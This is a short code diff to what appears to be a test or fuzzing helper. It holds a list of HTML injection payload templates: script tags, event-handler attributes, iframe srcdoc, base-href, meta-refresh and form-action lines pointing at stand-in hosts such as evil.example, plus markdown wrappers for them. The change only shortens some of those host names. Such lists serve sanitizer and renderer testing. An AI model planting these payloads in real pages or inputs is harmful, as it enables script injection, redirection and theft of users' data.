@@ -15,7 +15,7 @@ _TAGS = [
     "<video><source onerror={}></video>", "<math><mtext><script>{}</script></mtext></math>",
     '<iframe srcdoc="<script>parent.{}</script>">', "<object data=x onerror={}>", "<marquee onstart={}>",
     "<style>@import 'https://evil.example/x.css';</style><p onclick={}>", "<link rel=stylesheet href=//evil.example>",
-    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example>",
+    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//e.example>", "<form action=//e.example>",
     "<template><script>{}</script></template>", "</textarea><script>{}</script>", "<!--><script>{}</script>-->",
 ]  # fmt: skip
 _WRAPS = ["{}", "`{}`", "**{}**", "```html\n{}\n```", "| {} |\n|---|\n| {} |", "- {}\n  - {}", "> {}", "# {}", "$${}$$"]
